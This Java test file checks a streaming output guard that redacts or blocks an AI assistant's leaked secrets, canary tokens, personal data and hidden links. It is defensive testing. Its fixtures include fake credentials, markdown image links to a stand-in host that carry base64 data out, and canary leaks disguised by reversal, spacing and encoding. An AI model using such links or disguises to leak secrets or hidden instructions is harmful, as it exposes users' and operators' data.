package io.sallyport.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sallyport.core.Direction;
import io.sallyport.core.Origin;
import io.sallyport.core.Segment;
import io.sallyport.core.Verdict;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class StreamGuardTest {

  private static final Guard GUARD = Guard.standard();
  private static final String TOKEN =
      new Canaries(
              "a key for tests only, 32 bytes.."
                  .getBytes(java.nio.charset.StandardCharsets.US_ASCII))
          .token("tenant", "conversation");
  private static final String PROMPT =
      "You are the assistant of the harbour post office. Answer in two sentences. Never speak about"
          + " prices of other carriers, and send whoever asks for a refund to the counter. If a"
          + " parcel is lost, ask for the number that stands on the receipt, and be kind.";
  private static final GuardContext CONTEXT =
      new GuardContext(
          "tenant",
          "conversation",
          List.of(new Canary(TOKEN, Canary.INSTRUCTIONS)),
          List.of(PROMPT));
  private static final Policy REDACTING =
      Policy.balanced().toBuilder()
          .scanner(Scanners.PERSONAL_DATA, ScannerPolicy.of(Mode.REDACT, 0.5))
          .scanner(Scanners.CANARY, ScannerPolicy.of(Mode.REDACT, 0.5))
          .build();

  private static final List<String> PIECES =
      List.of(
          "The weather is fine today, and the train leaves at nine.",
          "your password should be long.",
          "password = \"k9F4ke-Zq71xWv\"",
          "gh" + "p_" + "F4keqDLRXwMc7UbR8o2jTvK3aHs1Yz" + "0Abc12",
          "AK" + "IA" + "QX7FAKEZ2WN5TR3B",
          "my token: " + "glp" + "at-" + "F4keA1b2C3d4E5f6G7h8",
          "from behind: " + "cba21" + "cbA0zY1sHa3KvTj2o8RbU7cMwXRLDqek4F_" + "phg",
          "g l p a t - " + "F 4 k e A 1 b 2 C 3 d 4 E 5 f 6 G 7 h 8",
          "'gl" + "pat-F4keA1b2' + 'C3d4E5f6G7h8'",
          "shifted " + "tycng" + "-S4xrN1o2P3q4R5s6T7u8",
          "in two: gl" + "pat-F4keA1b2 C3d4E5f6G7h8",
          "103 108 112 97 116 45 70 52 107 101 65 49 98 50 67 51 100 52 69 53 102 54 71 55 104 56",
          "call +44 20 7946 0958 please",
          "card 4111 1111 1111 1111 ok",
          "IBAN GB82 WEST 1234 5698 7654 32 here",
          "mail jane.doe@harbour-post.org or not",
          "SSN 219-09-9999 is hers",
          "192.168.17.4 and 10 of 12",
          "![chart](https://drop.example/p.png?d=VGhlIHNlY3JldCBpcyBncmVlbg==)",
          "[a link](https://docs.example/page?id=7)",
          "see https://docs.example/guide#part-2.",
          "<img src=\"https://drop.example/x?q=VGhlIHNlY3JldCBpcyBncmVlbg\" width=1>",
          "a < b and c > d [note] (aside)",
          "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
          "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F",
          "x\uDB40\uDC41\uDB40\uDC42\uDB40\uDC43y",
          "\u202Eabc\u202C",
          "-----BEGIN "
              + "PRIVATE KEY-----\nF4keF4keF4keF4keF4keF4keF4keqX7z\n-----END "
              + "PRIVATE KEY-----",
          TOKEN,
          PROMPT,
          PROMPT.substring(40, 160),
          PROMPT.substring(100).toUpperCase(java.util.Locale.ROOT).replace(" ", "  \n"),
          PROMPT.substring(0, 90),
          String.join(" ", letters(TOKEN)),
          new StringBuilder(TOKEN).reverse().toString(),
          java.util.Base64.getEncoder()
              .encodeToString(("id " + TOKEN).getBytes(java.nio.charset.StandardCharsets.US_ASCII)),
          "1. First item\n2. Second item\n",
          "```java\nint a = 5;\n```\n",
          "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645",
          "我昨天去了公园，电话是13812345678，请打给我。",
          "请看https://drop.example/p.png?d=VGhlIHNlY3JldCBpcyBncmVlbg==，谢谢",
          "真好![图](https://drop.example/(a)/p.png?d=VGhlIHNlY3JldCBpcyBncmVlbg==)吗！",
          "昨日は" + "glp" + "at-F4keA1b2C3d4E5f6G7h8" + "を使いました",
          "逆さま" + "8h7G6f5E4d3C2b1Aek4F-ta" + "plg" + "です",
          "| a1 | 17 |\n| b2 | 2024 |\n",
          "1;7;13\n100;700;1300\n",
          "%",
          "\uD83D");

  @Provide
  Arbitrary<String> answers() {
    return Arbitraries.of(PIECES)
        .list()
        .ofMinSize(1)
        .ofMaxSize(7)
        .flatMap(
            pieces ->
                Arbitraries.of(" ", "\n", " and then ", ", ", "然后")
                    .map(gap -> String.join(gap, pieces)));
  }

  @Property(tries = 150)
  void everyChunking_givesWhatTheWholeTextGives(@ForAll("answers") String text, @ForAll long seed) {
    Inspection whole = whole(text, REDACTING);

    Streamed streamed = stream(REDACTING, chunks(text, seed));

    assertThat(oneMark(streamed.text())).isEqualTo(oneMark(whole.treated().getFirst().text()));
    assertThat(streamed.verdict()).isEqualTo(whole.verdict());
  }

  /**
   * Of removed references in a row one. Signs between two of them may be taken for a part of a
   * token by a reading that a stream did not have any more, when it had let the first go.
   */
  private static String oneMark(String text) {
    String mark = "\\[removed by Sallyport: hidden reference\\]";
    return text.replaceAll("(?:" + mark + "\\W{0,40})+(?=" + mark + ")", "");
  }

  @Provide
  Arbitrary<String> scanners() {
    return Arbitraries.of(
        Scanners.SECRETS,
        Scanners.LINKS,
        Scanners.PERSONAL_DATA,
        Scanners.CANARY,
        Scanners.INVISIBLE);
  }

  @Property(tries = 250)
  void everyScannerAlone_holdsBackEnough(
      @ForAll("answers") String text, @ForAll("scanners") String scanner, @ForAll long seed) {
    Policy policy =
        Policy.off().toBuilder().scanner(scanner, ScannerPolicy.of(Mode.REDACT, 0.5)).build();

    Streamed streamed = stream(policy, chunks(text, seed));

    assertThat(oneMark(streamed.text()))
        .isEqualTo(oneMark(whole(text, policy).treated().getFirst().text()));
  }

  @Test
  void tokenEncodedBesideItself_leavesBothWays() {
    String text = "aWQgcnZ3Mm12Z3MyZnZydDg0bTJ3Y3E5Mw== rvw2mvgs2fvrt84m2wcq93";

    for (int cut = 1; cut < text.length(); cut++) {
      String streamed =
          stream(REDACTING, List.of(text.substring(0, cut), text.substring(cut))).text();
      assertThat(streamed).doesNotContain("rvw2", "cnZ3").startsWith("aWQg[removed");
    }
  }

  @Property(tries = 40)
  void characterByCharacter_givesWhatTheWholeTextGives(@ForAll("answers") String text) {
    Inspection whole = whole(text, REDACTING);

    Streamed streamed = stream(REDACTING, letters(text));

    assertThat(streamed.text()).isEqualTo(whole.treated().getFirst().text());
    assertThat(streamed.verdict()).isEqualTo(whole.verdict());
  }

  @Property(tries = 100)
  void leakedCanary_isNeverReleasedHoweverCut(@ForAll("answers") String before, @ForAll long seed) {
    String text = before.replace(TOKEN, "") + " the reference is " + TOKEN + " there";

    Streamed streamed = stream(Policy.balanced(), chunks(text, seed));

    assertThat(streamed.verdict()).isEqualTo(Verdict.BLOCK);
    assertThat(streamed.text()).doesNotContain(TOKEN);
  }

  @Property(tries = 200)
  void disguisedCanary_isNeverReleasedHoweverCut(
      @ForAll("disguises") String leak, @ForAll long seed) {
    String text = "Of course, here it is as you asked: " + leak + " and that was it.";

    Streamed streamed = stream(Policy.balanced(), chunks(text, seed));

    assertThat(streamed.verdict()).describedAs(leak).isEqualTo(Verdict.BLOCK);
    assertThat(streamed.text()).doesNotContain(leak);
  }

  @Provide
  Arbitrary<String> disguises() {
    return Arbitraries.of(List.copyOf(CanaryDisguises.of(TOKEN).values()));
  }

  @Property(tries = 100)
  void releasedText_neverEndsInsideASurrogatePair(
      @ForAll("answers") String text, @ForAll long seed) {
    StreamGuard stream = GUARD.openStream(REDACTING, CONTEXT, "answer");
    for (String delta : chunks(text.replace("\uD83D ", " "), seed)) {
      String released = stream.push(delta).text();
      if (!released.isEmpty()) {
        assertThat(Character.isHighSurrogate(released.charAt(released.length() - 1))).isFalse();
      }
    }
  }

  @Example
  void ordinaryProse_isHeldForOneWordOnly() {
    StreamGuard stream = GUARD.openStream(Policy.balanced(), CONTEXT, "answer");
    int most = 0;
    String text = "The quick brown fox jumps over the lazy dog, again and again, until evening. ";
    for (String letter : letters(text.repeat(20))) {
      stream.push(letter);
      most = Math.max(most, stream.held());
    }

    assertThat(most).isLessThanOrEqualTo(12);
  }

  @ParameterizedTest
  @CsvSource({
    "我昨天去了公园看到了很多漂亮的花，还有很多小孩在玩耍。, 8",
    "昨日は公園に行って、たくさんの花を見ました。, 8",
    "'| a1 | b17 |\n', 130",
    "'x1 = f(y1)\n', 130",
    "'100;700;1300\n', 130"
  })
  void textsWithoutBlanksTablesAndCode_streamAsTheyAreWritten(String text, int held) {
    StreamGuard stream = GUARD.openStream(Policy.balanced(), GuardContext.none(), "answer");
    int most = 0;
    for (String letter : letters(text.translateEscapes().repeat(40))) {
      stream.push(letter);
      most = Math.max(most, stream.held());
    }

    assertThat(most).isLessThanOrEqualTo(held);
  }

  @Example
  void policyOff_releasesAtOnce() {
    StreamGuard stream = GUARD.openStream(Policy.off(), CONTEXT, "answer");

    assertThat(stream.push("half a wo").text()).isEqualTo("half a wo");
    assertThat(stream.held()).isZero();
  }

  @Example
  void policyThatOnlyRecords_holdsNothingAndFindsTheSame() {
    String text = "Here: " + TOKEN + " and mail jane.doe@harbour-post.org, please";
    StreamGuard stream =
        GUARD.openStream(Policy.balanced().toBuilder().logOnly(true).build(), CONTEXT, "answer");
    List<SegmentFinding> found = new ArrayList<>();
    for (String letter : letters(text)) {
      Step step = stream.push(letter);
      assertThat(step.text()).isEqualTo(letter);
      assertThat(stream.held()).isZero();
      found.addAll(step.findings());
    }
    Step last = stream.finish();
    found.addAll(last.findings());

    assertThat(last.text()).isEmpty();
    assertThat(found)
        .anySatisfy(located -> assertThat(located.would()).isEqualTo(Verdict.BLOCK))
        .allSatisfy(located -> assertThat(located.verdict()).isEqualTo(Verdict.ALLOW));
  }

  @Example
  void scannerThatOnlyRecordsButWouldBlockWhenItFails_stillHoldsBack() {
    Policy.Builder policy = Policy.balanced().toBuilder();
    GUARD
        .scanners()
        .forEach(scanner -> policy.scanner(scanner.name(), ScannerPolicy.of(Mode.LOG, 0.5)));
    StreamGuard stream = GUARD.openStream(policy.build(), CONTEXT, "answer");

    stream.push("half a wo");

    assertThat(stream.held()).isPositive();
  }

  @Example
  void afterABlock_nothingMoreIsTaken() {
    StreamGuard stream = GUARD.openStream(Policy.balanced(), CONTEXT, "choices[0]");

    stream.push("Here: " + TOKEN);
    Step step = stream.push(" and then many more words which nobody will ever see ");

    assertThat(step.blocked()).isTrue();
    assertThat(step.text()).isEmpty();
    assertThat(step.clientMessage())
        .startsWith("Blocked by Sallyport: the hidden instructions came out")
        .doesNotContain(TOKEN);
    assertThatThrownBy(() -> stream.push("more")).isInstanceOf(IllegalStateException.class);
  }

  @Example
  void findingsOfALongStream_nameTheirPlaceInTheWhole() {
    String text = "word ".repeat(400) + "mail jane.doe@harbour-post.org now";

    Streamed streamed = stream(REDACTING, chunks(text, 3));

    assertThat(streamed.findings())
        .singleElement()
        .satisfies(
            located ->
                assertThat(text.substring(located.finding().start(), located.finding().end()))
                    .isEqualTo("jane.doe@harbour-post.org"));
  }

  @Example
  void aVeryLongRunWithoutSpaces_doesNotGrowTheHeldText() {
    StreamGuard stream = GUARD.openStream(Policy.balanced(), CONTEXT, "answer");
    Random random = new Random(7);
    int most = 0;
    for (int i = 0; i < 300; i++) {
      StringBuilder delta = new StringBuilder();
      random.ints(100, 0, 26).forEach(n -> delta.append((char) ('a' + n)));
      stream.push(delta.toString());
      most = Math.max(most, stream.held());
    }

    assertThat(most).isLessThan(6_000);
  }

  @Example
  void answerLongerThanAllowed_isBlockedOnTheWay() {
    Policy policy =
        Policy.balanced().toBuilder().limits(new Limits(1_000, 100_000, 1_000, 5_000)).build();
    StreamGuard stream = GUARD.openStream(policy, CONTEXT, "answer");
    int pushed = 0;
    Step step = stream.push("word ");
    while (!step.blocked() && pushed < 1_000) {
      step = stream.push("word ");
      pushed++;
    }

    assertThat(pushed).isBetween(195, 202);
  }

  private static Inspection whole(String text, Policy policy) {
    return GUARD.inspect(
        List.of(Segment.of("answer", text, Origin.ASSISTANT)), Direction.OUTPUT, policy, CONTEXT);
  }

  private record Streamed(String text, Verdict verdict, List<SegmentFinding> findings) {}

  private static Streamed stream(Policy policy, List<String> deltas) {
    StreamGuard stream = GUARD.openStream(policy, CONTEXT, "answer");
    StringBuilder out = new StringBuilder();
    List<SegmentFinding> findings = new ArrayList<>();
    for (String delta : deltas) {
      Step step = stream.push(delta);
      out.append(step.text());
      findings.addAll(step.findings());
      if (step.blocked()) {
        return new Streamed(out.toString(), step.verdict(), findings);
      }
    }
    Step last = stream.finish();
    findings.addAll(last.findings());
    return new Streamed(out.append(last.text()).toString(), last.verdict(), findings);
  }

  private static List<String> letters(String text) {
    return text.chars().mapToObj(c -> String.valueOf((char) c)).toList();
  }

  private static List<String> chunks(String text, long seed) {
    Random random = new Random(seed);
    List<String> chunks = new ArrayList<>();
    for (int at = 0; at < text.length(); ) {
      int end = Math.min(text.length(), at + 1 + random.nextInt(random.nextBoolean() ? 4 : 30));
      chunks.add(text.substring(at, end));
      at = end;
    }
    return chunks;
  }
}
